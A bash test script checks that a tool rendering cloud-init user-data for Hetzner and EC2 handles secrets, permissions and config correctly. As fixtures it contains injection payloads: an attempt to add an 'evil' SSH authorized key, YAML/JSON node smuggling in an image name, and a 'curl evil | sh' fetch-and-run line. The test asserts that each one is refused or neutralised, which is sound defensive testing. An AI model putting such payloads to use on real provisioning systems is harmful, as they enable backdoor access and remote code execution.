#!/usr/bin/env bash
# agentbox render-user-data: for Hetzner and EC2, deb and baked, the
# rendered user-data passes cloud-init's own schema check, carries each
# secret only in its 0600 write_files entry (never in a command), carries
# an agentbox.json the programs accept, and installs a .deb only after its
# sha256 matched; hostile values are quoted or refused, and every bad
# input is refused with the key and line named.
. "$(dirname "$0")/../lib.sh"
need_cmd cloud-init
need_cmd jq
python3 -c 'import yaml' 2>/dev/null || { skip "needs python3-yaml"; exit 0; }
AB=$BIN/agentbox
CHECK=$TOP/tests/render/check-user-data.py
cd "$T" || exit 1
mkdir -p home keys

# Secret files as a user keeps them (0600), with characters YAML and JSON
# care about, and one that tries to inject a write_files entry.
(
	umask 077
	printf '%s\n' '[default]' 'aws_access_key_id = AKIARENDERTEST' 'aws_secret_access_key = se"cr:et/#{x}' \
		'#"' '#- path: /root/.ssh/authorized_keys' '#  content: "ssh-ed25519 AAAA evil"' >keys/s3
	printf 'hcloud-TOKEN-0123456789\n' >keys/hcloud
	printf '{"username": "u", "password": "p\\"w: #x"}\n' >keys/registry
)
printf '%s\n' '# my keys' 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRenderTestKeyOne one@laptop' '' \
	'ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTY two@laptop' >keys/id.pub
SHA=$(printf 'deb' | sha256sum | cut -d' ' -f1)

base_hetzner() {
	cat <<EOF
PROVIDER=hetzner
WORKSPACE_NAME=ws1
WORKSPACE_IMAGE=registry.example:5000/agent:1
SSH_KEY_FILE=keys/id.pub
BUCKET=render-bucket
S3_ENDPOINT=https://fsn1.your-objectstorage.com
S3_REGION=fsn1
S3_CREDENTIALS_FILE=keys/s3
HCLOUD_TOKEN_FILE=$T/keys/hcloud
REGISTRY_AUTH_FILE=keys/registry
EOF
}
base_ec2() {
	cat <<EOF
PROVIDER=ec2
WORKSPACE_NAME=ws2
WORKSPACE_IMAGE=ghcr.io/you/agent:2
SSH_KEY=ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRenderTestKeyOne one@laptop
BUCKET=render-bucket
S3_REGION=eu-central-1
S3_CREDENTIALS_FILE=keys/s3
EOF
}
install_deb() { printf 'INSTALL=deb\nDEB_URL=https://releases.example/agentbox_0.1.0_amd64.deb\nDEB_SHA256=%s\n' "$SHA"; }
install_baked() { printf 'INSTALL=baked\n'; }

# render NAME ENV_TEXT: renders NAME.env into NAME.yaml; its status.
render() {
	printf '%s\n' "$2" >"$1.env"
	"$AB" render-user-data -o "$1.yaml" "$1.env" 2>"$1.err"
}

for p in hetzner ec2; do
	for m in deb baked; do
		n=$p-$m
		if ! render "$n" "$(base_$p; install_$m)"; then
			fail "$n: renders ($(cat "$n.err"))"
			continue
		fi
		pass "$n: renders"
		check "$n: written 0600" [ "$(stat -c %a "$n.yaml")" = 600 ]
		check "$n: cloud-init schema --config-file accepts it" \
			cloud-init schema --config-file "$n.yaml"
		if [ $p = hetzner ]; then
			secrets="{\"/etc/agentbox/s3-credentials\": \"keys/s3\", \"/etc/agentbox/hcloud-token\": \"keys/hcloud\", \"/etc/agentbox/registry-auth\": \"keys/registry\", \"/etc/agentbox/state.key\": \"ws1.state-key\"}"
		else
			secrets='{"/etc/agentbox/s3-credentials": "keys/s3", "/etc/agentbox/state.key": "ws2.state-key"}'
		fi
		printf '%s\n' "$secrets" >"$n.secrets"
		check "$n: structure; secrets only in their 0600 write_files entries" \
			python3 "$CHECK" "$n.yaml" $m "$n.secrets" "$n.json"
		jq --arg h "$T/home" '.workspace.home = $h' "$n.json" >"$n.j2"
		check "$n: its agentbox.json passes agentbox-monitor --check-config" \
			"$BIN/agentbox-monitor" --check-config -c "$n.j2"
	done
done
# cloud-init's own write_files code writes the entries (re-rooted under
# $T/root): each file byte for byte, with its mode and owner.
# (Debian's python3: where cloud-init's modules are)
check "cloud-init's write_files writes them: secrets 0600 root, byte for byte" /usr/bin/python3 - <<'PY'
import os, stat, yaml
from cloudinit.config import cc_write_files
files = yaml.safe_load(open("hetzner-deb.yaml"))["write_files"]
for f in files:
    f["path"] = os.path.abspath("root" + f["path"])
cc_write_files.write_files("write_files", files, "root:root")
want = {"s3-credentials": "keys/s3", "hcloud-token": "keys/hcloud", "registry-auth": "keys/registry",
        "state.key": "ws1.state-key"}
for name, src in want.items():
    st = os.stat("root/etc/agentbox/" + name)
    assert stat.S_IMODE(st.st_mode) == 0o600 and st.st_uid == 0, name
    assert open("root/etc/agentbox/" + name, "rb").read() == open(src, "rb").read(), name
assert stat.S_IMODE(os.stat("root/etc/agentbox/agentbox.json").st_mode) == 0o644
PY
"$AB" render-user-data hetzner-deb.env >stdout.yaml 2>/dev/null

# The state's encryption key: generated beside the env file on the first
# render (0600, 64 hex digits from getrandom), with the warning to keep it;
# never overwritten; shipped 0600 and named by state.encryption.key_file.
check "key: generated as <WORKSPACE_NAME>.state-key beside the env file, 0600, 64 hex digits" \
	bash -c '[ "$(stat -c %a ws1.state-key)" = 600 ] && grep -qxE "[0-9a-f]{64}" ws1.state-key && [ "$(wc -c <ws1.state-key)" = 65 ]'
check "key: the first render says where it is and to keep it safe" \
	grep -q "generated the state's encryption key in $T/ws1.state-key" hetzner-deb.err
check "key: the user is told that losing it loses the state" grep -q "without it nobody can restore that state" hetzner-deb.err
check "key: a later render reuses it, says nothing (hetzner-baked after hetzner-deb)" \
	bash -c '! grep -q generated hetzner-baked.err'
check "key: each workspace its own" bash -c '! cmp -s ws1.state-key ws2.state-key'
check "key: the config names the shipped file" jq -e '.state.encryption.key_file == "/etc/agentbox/state.key"' hetzner-deb.json
(umask 077; printf '%064x\n' 7 >keys/state.key)
cp keys/state.key keys/state.key.orig
render keyfile "$(base_ec2; install_baked; echo STATE_KEY_FILE=keys/state.key)"
printf '{"/etc/agentbox/s3-credentials": "keys/s3", "/etc/agentbox/state.key": "keys/state.key"}\n' >keyfile.secrets
check "key: STATE_KEY_FILE names an existing key: shipped as it is, not overwritten" \
	sh -c 'python3 "$1" keyfile.yaml baked keyfile.secrets keyfile.json && cmp -s keys/state.key keys/state.key.orig && ! grep -q generated keyfile.err' _ "$CHECK"
render newkey "$(base_ec2; install_baked; echo STATE_KEY_FILE=keys/new.key)"
check "key: STATE_KEY_FILE naming a missing file: generated there" \
	bash -c '[ "$(stat -c %a keys/new.key)" = 600 ] && grep -qxE "[0-9a-f]{64}" keys/new.key && grep -q "keys/new.key" newkey.err'
chmod 644 keys/state.key
render keyperm "$(base_ec2; install_baked; echo STATE_KEY_FILE=keys/state.key)"
st=$?
check "key: a key readable by others refused (exit 2), naming it" \
	bash -c '[ '$st' -eq 2 ] && grep -q "keyperm.env:[0-9]*: STATE_KEY_FILE: .*keys/state.key is readable by group or others" keyperm.err'
(umask 077; printf 'not-a-key\n' >keys/bad.key)
render keybad "$(base_ec2; install_baked; echo STATE_KEY_FILE=keys/bad.key)"
st=$?
check "key: a file that is no key refused (exit 2), left as it was" \
	bash -c '[ '$st' -eq 2 ] && [ "$(cat keys/bad.key)" = not-a-key ] && grep -q "STATE_KEY_FILE: .*bad.key does not hold a key" keybad.err && [ ! -s keybad.yaml ]'
check "stdout and -o give the same text" cmp -s stdout.yaml hetzner-deb.yaml
check "hetzner: config points at the secret files and the endpoint" \
	jq -e '.provider.name == "hetzner" and .provider.hetzner.token_file == "/etc/agentbox/hcloud-token"
		and .state.storage.credentials_file == "/etc/agentbox/s3-credentials"
		and .workspace.registry_auth_file == "/etc/agentbox/registry-auth"
		and .state.storage.path_style == true and .idle.action == "delete" and .idle.timeout == "30m"' \
	hetzner-deb.json
check "ec2: AWS endpoint (none set), virtual-host style" \
	jq -e '.provider.name == "ec2" and (.state.storage | has("endpoint") | not) and .state.storage.path_style == false' \
	ec2-baked.json
check "the deb's URL and sha256 are the installer's arguments" \
	grep -qx "$SHA" hetzner-deb.json.args

# EC2 with the instance profile: no credentials file at all.
render ec2-role "$(base_ec2 | grep -v S3_CREDENTIALS_FILE; install_baked)"
check "ec2 without S3_CREDENTIALS_FILE: renders (instance profile)" [ -s ec2-role.yaml ]
echo '{"/etc/agentbox/state.key": "ws2.state-key"}' >ec2-role.secrets
check "ec2 without S3_CREDENTIALS_FILE: no secret file, no credentials_file" \
	sh -c 'python3 "$1" ec2-role.yaml baked ec2-role.secrets ec2-role.json &&
		jq -e "(.state.storage | has(\"credentials_file\")) | not" ec2-role.json' _ "$CHECK"

# Test overrides: the Hetzner API base and extra config, dotted or nested.
render extra "$(base_hetzner; install_baked
	echo 'HETZNER_API_URL=http://169.254.169.254:8080/v1'
	echo IDLE_TIMEOUT=1m
	echo "EXTRA_CONFIG='{\"idle.warn_before\": \"20s\", \"idle\": {\"boot_grace\": \"0s\"}, \"workspace.command\": [\"sh\", \"-c\", \"echo \\\"x: y\\\" # z\"]}'")"
check "extra config and HETZNER_API_URL land in agentbox.json" \
	sh -c 'python3 "$1" extra.yaml baked hetzner-deb.secrets extra.json &&
		jq -e ".provider.hetzner.api_url == \"http://169.254.169.254:8080/v1\" and .idle.timeout == \"1m\"
			and .idle.warn_before == \"20s\" and .idle.boot_grace == \"0s\" and .idle.action == \"delete\"
			and .workspace.command[2] == \"echo \\\"x: y\\\" # z\"" extra.json' _ "$CHECK"

# A public screen: its password and TLS key go in as credentials of
# agentbox-display (a drop-in loads them from the root 0600 files; the
# display runs as the workspace user), the certificate as a plain file.
(
	umask 077
	printf 'vnc-pass-1\n' >keys/display-password
	printf 'web-password-of-render-1\n' >keys/web-password
	printf -- '-----BEGIN PRIVATE KEY-----\nMIIEdisplaykey\n-----END PRIVATE KEY-----\n' >keys/tls.key
)
printf -- '-----BEGIN CERTIFICATE-----\nMIIBdisplaycert\n-----END CERTIFICATE-----\n' >keys/tls.crt
display_keys() {
	printf 'DISPLAY_LISTEN=0.0.0.0\nDISPLAY_PASSWORD_FILE=keys/display-password\nDISPLAY_WEB_PASSWORD_FILE=keys/web-password\nDISPLAY_TLS_KEY_FILE=keys/tls.key\nDISPLAY_TLS_CERT_FILE=keys/tls.crt\n'
}
render display "$(base_ec2; install_baked; display_keys)"
check "public screen: cloud-init schema accepts it" cloud-init schema --config-file display.yaml
printf '%s\n' '{"/etc/agentbox/s3-credentials": "keys/s3", "/etc/agentbox/display-password": "keys/display-password",
	"/etc/agentbox/web-password": "keys/web-password", "/etc/agentbox/state.key": "ws2.state-key",
	"/etc/agentbox/display-tls.key": "keys/tls.key", "/etc/agentbox/display-tls.crt": null,
	"/etc/systemd/system/agentbox-display.service.d/credentials.conf": null}' >display.secrets
check "public screen: secrets only in their 0600 entries, the certificate and drop-in 0644" \
	python3 "$CHECK" display.yaml baked display.secrets display.json
check "public screen: the config names the credentials and the certificate" \
	jq -e '.display.listen == "0.0.0.0" and .display.password_file == "display-password"
		and .display.web_password_file == "web-password"
		and .display.tls_key_file == "display-tls-key" and .display.tls_cert_file == "/etc/agentbox/display-tls.crt"' display.json
check "public screen: the drop-in loads the credentials from the 0600 files" python3 - <<'PY'
import yaml
d = yaml.safe_load(open("display.yaml"))
w = [w for w in d["write_files"] if w["path"].endswith("agentbox-display.service.d/credentials.conf")][0]
lines = [l for l in w["content"].splitlines() if not l.startswith("#")]
assert lines == ["[Service]", "LoadCredential=display-password:/etc/agentbox/display-password",
                 "LoadCredential=web-password:/etc/agentbox/web-password",
                 "LoadCredential=display-tls-key:/etc/agentbox/display-tls.key"], lines
PY
jq --arg h "$T/home" '.workspace.home = $h' display.json >display.j2
check "public screen: its agentbox.json passes agentbox-monitor --check-config" \
	"$BIN/agentbox-monitor" --check-config -c display.j2

# Hostile values: quoted so they come back byte for byte, never new nodes.
# (An env value is one line: a newline can only come from a file, and
# those are line-checked (keys) or base64 (secrets).)
hostile_image='reg.example/a:1" , "evil": [x]#{&*!|>'"'"'%@LOGIN_USER@ \"'
hostile_key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRenderTestKeyOne "x": [y], #z {a} é 😀 \ end'
printf '%s\n' "$hostile_key" >keys/hostile.pub
render hostile "$(base_ec2 | grep -v -e WORKSPACE_IMAGE -e SSH_KEY; install_baked
	printf 'WORKSPACE_IMAGE=%s\n' "$hostile_image"
	printf 'SSH_KEY_FILE=keys/hostile.pub\n')"
check "hostile values: cloud-init schema accepts the result" cloud-init schema --config-file hostile.yaml
check "hostile values: back byte for byte, nothing injected" python3 - "$hostile_image" "$hostile_key" <<'PY'
import json, sys, yaml
d = yaml.safe_load(open("hostile.yaml", encoding="utf-8"))
c = json.loads([w for w in d["write_files"] if w["path"] == "/etc/agentbox/agentbox.json"][0]["content"])
assert c["workspace"]["image"] == sys.argv[1], c["workspace"]["image"]
assert d["users"][1]["ssh_authorized_keys"] == [sys.argv[2]], d["users"][1]
assert set(d) == {"locale", "ssh_pwauth", "disable_root", "users", "write_files", "runcmd"}, set(d)
assert len(d["write_files"]) == 4 and "evil" not in json.dumps(d["users"])
PY
printf '%s\n' 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRenderTestKeyOne a' '  - [sh, -c, "curl evil | sh"]' >keys/inject.pub

# expect_refused NAME ENV_TEXT MESSAGE: exit status 2 and a message.
expect_refused() {
	local out
	render "$1" "$2"
	local rc=$?
	out=$(cat "$1.err")
	if [ $rc -eq 2 ] && [[ $out == *"$3"* ]] && [ ! -e "$1.yaml" ]; then
		pass "refused: $1 ($out)"
	else
		fail "refused: $1: status $rc, message '$out', expected '$3'"
	fi
}
expect_refused inject-key "$(base_ec2 | grep -v SSH_KEY; install_baked; echo SSH_KEY_FILE=keys/inject.pub)" \
	"SSH_KEY_FILE: line 2 is not an SSH public key"
cp keys/s3 keys/private
printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----\n' >keys/id
expect_refused private-key "$(base_ec2 | grep -v SSH_KEY; install_baked; echo SSH_KEY_FILE=keys/id)" \
	"this is a private key"
expect_refused no-provider "$(base_ec2 | grep -v PROVIDER; install_baked)" \
	"no-provider.env: PROVIDER: missing"
expect_refused bad-provider "$(install_baked; base_ec2 | sed s/=ec2/=gcp/)" \
	"bad-provider.env:2: PROVIDER: expected hetzner or ec2"
expect_refused typo "$(base_ec2; install_baked; echo IDEL_TIMEOUT=5m)" \
	"typo.env:9: IDEL_TIMEOUT: unknown key"
expect_refused twice "$(base_ec2; install_baked; echo BUCKET=other)" \
	"twice.env:9: BUCKET is set twice (first on line 5)"
expect_refused no-install "$(base_ec2)" "INSTALL: missing"
expect_refused no-url "$(base_ec2; echo INSTALL=deb)" "DEB_URL: missing"
expect_refused bad-sha "$(base_ec2; install_deb | sed 's/SHA256=.*/SHA256=abc/')" \
	"bad-sha.env:10: DEB_SHA256: expected 64 hex digits"
expect_refused quote-url "$(base_ec2; install_deb | sed 's|\.deb$|.deb" x|')" \
	"DEB_URL: a URL has no blanks, quotes"
expect_refused url-baked "$(base_ec2; install_baked; echo DEB_URL=https://x/y.deb)" \
	"DEB_URL: only with INSTALL=deb"
expect_refused no-token "$(base_hetzner | grep -v HCLOUD; install_baked)" "HCLOUD_TOKEN_FILE: missing"
expect_refused token-ec2 "$(base_ec2; install_baked; echo HCLOUD_TOKEN_FILE=keys/hcloud)" \
	"HCLOUD_TOKEN_FILE: only with PROVIDER=hetzner"
expect_refused no-endpoint "$(base_hetzner | grep -v S3_ENDPOINT; install_baked)" "S3_ENDPOINT: missing"
expect_refused no-key "$(base_ec2 | grep -v SSH_KEY; install_baked)" "SSH_KEY: missing"
chmod 0644 keys/private
expect_refused open-secret "$(base_ec2 | grep -v S3_CRED; install_baked; echo S3_CREDENTIALS_FILE=keys/private)" \
	"is readable by group or others (chmod 0600 it)"
(umask 077; printf '[other]\naws_access_key_id = a\naws_secret_access_key = b\n' >keys/s3-other)
expect_refused no-default-profile "$(base_ec2 | grep -v S3_CRED; install_baked; echo S3_CREDENTIALS_FILE=keys/s3-other)" \
	"S3_CREDENTIALS_FILE: $T/keys/s3-other"
(umask 077; printf 'two words\n' >keys/badtoken)
expect_refused token-blank "$(base_hetzner | grep -v HCLOUD; install_baked; echo HCLOUD_TOKEN_FILE=keys/badtoken)" \
	"is not one token on one line"
expect_refused idle "$(base_ec2; install_baked; echo 'IDLE_TIMEOUT=30 minutes')" \
	"idle.env:9: IDLE_TIMEOUT: expected a duration"
expect_refused extra-typo "$(base_ec2; install_baked; echo 'EXTRA_CONFIG={"idle": {"timout": "5m"}}')" \
	"idle.timout: unknown key"
expect_refused extra-owned "$(base_ec2; install_baked; echo 'EXTRA_CONFIG={"workspace.user": "root2"}')" \
	"extra-owned.env:9: EXTRA_CONFIG: workspace.user: set WORKSPACE_USER in the env file instead"
expect_refused extra-owned2 "$(base_ec2; install_baked; echo 'EXTRA_CONFIG={"state": {"storage": {"bucket": "x"}}}')" \
	"state.storage.bucket: set BUCKET in the env file instead"
expect_refused display-no-cert "$(base_ec2; install_baked; display_keys | grep -v CERT)" \
	"DISPLAY_TLS_CERT_FILE: missing: a screen on 0.0.0.0 (DISPLAY_LISTEN) needs"
expect_refused display-no-web-password "$(base_ec2; install_baked; display_keys | grep -v WEB_PASSWORD)" \
	"DISPLAY_WEB_PASSWORD_FILE: missing: a screen on 0.0.0.0 (DISPLAY_LISTEN) needs"
expect_refused display-short-web-password "$(base_ec2; install_baked; display_keys | sed 's|keys/web-password|keys/display-password|')" \
	"must hold 16 to 1024 characters"
expect_refused display-bad-key "$(base_ec2; install_baked; display_keys | sed 's|tls.key|tls.crt|')" \
	"tls.crt is readable by group or others"
expect_refused extra-json "$(base_ec2; install_baked; echo 'EXTRA_CONFIG=[1]')" \
	"extra-json.env:9: EXTRA_CONFIG: not a JSON object"
expect_refused same-user "$(base_ec2; install_baked; echo LOGIN_USER=agent)" \
	"LOGIN_USER: must differ from WORKSPACE_USER"
expect_refused bad-name "$(base_ec2 | sed 's/^WORKSPACE_NAME=.*/WORKSPACE_NAME=a b/'; install_baked)" \
	"workspace.name"
expect_refused bad-uid "$(base_ec2; install_baked; echo WORKSPACE_UID=0)" \
	"WORKSPACE_UID: expected a number from 1000"
expect_refused newline-quote "$(base_ec2; install_baked; printf 'WORKSPACE_USER="agent\n')" \
	"no closing \" (values cannot span lines)"
python3 -c 'import json; print(json.dumps({"workspace": {"command": ["x" * 17000]}}))' >big.json
expect_refused too-big "$(base_ec2; install_baked; echo EXTRA_CONFIG_FILE=big.json)" \
	"EC2 accepts at most 16 KiB"
check "--help lists every key" sh -c '"$1" render-user-data --help | grep -q HCLOUD_TOKEN_FILE' _ "$AB"
check "needs no /etc/agentbox/agentbox.json: a bad --config is not read" \
	"$AB" --config /nonexistent render-user-data -o via-config.yaml ec2-baked.env

# The deb installer, run for real with curl on a file:// URL and apt-get
# replaced by a recorder: the .deb reaches apt-get only when its sha256
# matches. A private mount namespace with a tmpfs over /var/cache keeps
# the machine's own untouched.
if [ "$(id -u)" -eq 0 ] && unshare -m true 2>/dev/null; then
	mkdir -p stub
	printf '#!/bin/sh\necho "$@" >>%s/apt.log\n' "$T" >stub/apt-get
	chmod 755 stub/apt-get
	printf 'deb' >release.deb
	run_installer() { # SHA
		unshare -m --propagation private sh -c 'mount -t tmpfs none /var/cache &&
			PATH="$1:$PATH" sh -c "$2" install-deb "file://$3" "$4"' _ \
			"$T/stub" "$(cat hetzner-deb.json.sh)" "$T/release.deb" "$1"
	}
	check "installer: a matching sha256 installs the .deb" run_installer "$SHA"
	check "installer: apt-get got the downloaded .deb" grep -q 'install .*/var/cache/agentbox/agentbox.deb' apt.log
	rm -f apt.log
	if run_installer "$(printf 'other' | sha256sum | cut -d' ' -f1)" 2>/dev/null; then
		fail "installer: a wrong sha256 fails"
	else
		pass "installer: a wrong sha256 fails"
	fi
	check "installer: nothing installed after a wrong sha256" [ ! -e apt.log ]
else
	skip "installer run: needs root and unshare -m"
fi
finish
